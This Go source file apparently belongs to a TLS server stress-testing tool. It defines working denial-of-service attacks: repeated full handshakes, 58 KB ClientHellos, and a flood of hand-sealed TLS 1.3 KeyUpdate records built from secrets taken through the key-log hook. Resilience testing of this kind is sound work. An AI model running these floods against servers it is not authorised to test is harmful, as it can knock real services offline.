package attack

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"hash"
	"io"
	"net"
	"slices"
	"strings"
	"time"
)

// secure are the attacks on TLS.
func secure() []Attack {
	return []Attack{
		{
			Name: "tls-handshakes", About: "makes whole TLS handshakes and hangs up",
			Wants: "bounded by what a core can do", TLS: true,
			attempt: func(a *assault, _ int) outcome {
				return a.opened(func(*conn) outcome { return outcome{what: "handshake"} })
			},
		},
		{
			Name: "big-hellos", About: "sends TLS ClientHellos of 58 KB",
			Wants: "cut", TLS: true,
			attempt: func(a *assault, _ int) outcome {
				large := hello(a.host, largeProtocols())
				return a.raw(func(c *conn) outcome {
					_, _ = c.Write(large) // the server may end it in the middle
					return c.drained()
				})
			},
		},
		{
			Name: "key-updates", About: "has the server update its keys, at full speed (TLS 1.3)",
			Wants: "cut", TLS: true,
			attempt: func(a *assault, n int) outcome { return a.updateKeys(n%2 == 1) },
		},
	}
}

// largeProtocols make a ClientHello of 58 KB.
func largeProtocols() []string {
	return append(slices.Repeat([]string{strings.Repeat("a", 255)}, 225), "http/1.1")
}

// hello is the ClientHello of crypto/tls, as it is sent.
func hello(host string, protocols []string) []byte {
	config := tlsConfig(host)
	if protocols != nil {
		config.NextProtos = protocols
	}
	var t tape
	_ = tls.Client(&t, config).Handshake() // which fails, as nobody answers
	return t.sent
}

// tape is a net.Conn that keeps what is written.
type tape struct{ sent []byte }

func (t *tape) Write(b []byte) (int, error)      { t.sent = append(t.sent, b...); return len(b), nil }
func (t *tape) Read([]byte) (int, error)         { return 0, io.EOF }
func (t *tape) Close() error                     { return nil }
func (t *tape) LocalAddr() net.Addr              { return nil }
func (t *tape) RemoteAddr() net.Addr             { return nil }
func (t *tape) SetDeadline(time.Time) error      { return nil }
func (t *tape) SetReadDeadline(time.Time) error  { return nil }
func (t *tape) SetWriteDeadline(time.Time) error { return nil }

// updateKeys floods a connection with KeyUpdate messages that ask for an update in
// return (RFC 8446 section 4.6.3). crypto/tls sends none, but it hands out the
// secret that its keys come from, so that records can be sealed here.
func (a *assault) updateKeys(upgraded bool) outcome {
	c, err := a.dial()
	if err != nil {
		return a.failed(err)
	}
	defer c.drop()
	var log keyLog
	config := tlsConfig(a.host)
	config.MinVersion, config.KeyLogWriter = tls.VersionTLS13, &log
	plain := c.Conn
	if err := c.handshake(config); err != nil {
		return a.failed(err)
	}
	s := newSealer(log.secret("CLIENT_TRAFFIC_SECRET_0"), c.Conn.(*tls.Conn).ConnectionState().CipherSuite)
	if s == nil {
		return outcome{what: "no AES", quiet: true}
	}
	if upgraded {
		if _, err := c.Write(a.request(a.channel("keys"))); err != nil {
			return c.ended(err)
		}
		if o := c.answer(); !c.upgraded {
			return o
		}
		s.sequence++ // the request was one record
	}
	c.Conn, c.reader = plain, nil
	e := &end{done: make(chan struct{})}
	go func() {
		e.outcome = c.drained()
		close(e.done)
	}()
	for {
		var records []byte
		for range 64 {
			records = s.keyUpdate(records)
		}
		if _, err := c.Write(records); err != nil {
			return e.wait()
		}
	}
}

// keyLog takes what crypto/tls says for debuggers: "LABEL random secret".
type keyLog struct{ lines []string }

func (l *keyLog) Write(b []byte) (int, error) {
	l.lines = append(l.lines, string(b))
	return len(b), nil
}

func (l *keyLog) secret(label string) []byte {
	for _, line := range l.lines {
		if f := strings.Fields(line); len(f) == 3 && f[0] == label {
			secret, _ := hex.DecodeString(f[2])
			return secret
		}
	}
	return nil
}

// sealer makes the records of a TLS 1.3 client.
type sealer struct {
	hash     func() hash.Hash
	keySize  int
	secret   []byte
	aead     cipher.AEAD
	iv       []byte
	sequence uint64
}

// newSealer is nil for suites without AES.
func newSealer(secret []byte, suite uint16) *sealer {
	s := &sealer{secret: secret}
	switch suite {
	case tls.TLS_AES_128_GCM_SHA256:
		s.hash, s.keySize = sha256.New, 16
	case tls.TLS_AES_256_GCM_SHA384:
		s.hash, s.keySize = sha512.New384, 32
	default:
		return nil
	}
	s.rekey()
	return s
}

// rekey makes the keys of the secret (RFC 8446 section 7.3).
func (s *sealer) rekey() {
	block, err := aes.NewCipher(s.expand("key", s.keySize))
	if err != nil {
		panic(err) // the size is one of AES
	}
	if s.aead, err = cipher.NewGCM(block); err != nil {
		panic(err) // the block is one of AES
	}
	s.iv, s.sequence = s.expand("iv", 12), 0
}

// expand is HKDF-Expand-Label without a context (RFC 8446 section 7.1).
func (s *sealer) expand(label string, size int) []byte {
	label = "tls13 " + label
	info := binary.BigEndian.AppendUint16(nil, uint16(size)) //nolint:gosec // at most 48
	info = append(append(append(info, byte(len(label))), label...), 0)
	key, err := hkdf.Expand(s.hash, s.secret, string(info), size)
	if err != nil {
		panic(err) // the size is far below the limit
	}
	return key
}

// keyUpdate appends a record with a KeyUpdate, after which the keys are the next ones.
func (s *sealer) keyUpdate(dst []byte) []byte {
	const handshake = 22
	dst = s.record(dst, handshake, []byte{24, 0, 0, 1, 1}) // key_update, of 1 byte: update_requested
	s.secret = s.expand("traffic upd", s.hash().Size())
	s.rekey()
	return dst
}

// record appends a record of at most 200 bytes (RFC 8446 section 5.2).
func (s *sealer) record(dst []byte, kind byte, content []byte) []byte {
	inner := slices.Concat(content, []byte{kind})
	header := []byte{23, 3, 3, 0, byte(len(inner) + s.aead.Overhead())}
	nonce := make([]byte, 12)
	binary.BigEndian.PutUint64(nonce[4:], s.sequence)
	for i := range nonce {
		nonce[i] ^= s.iv[i]
	}
	s.sequence++
	return s.aead.Seal(append(dst, header...), nonce, inner, header)
}
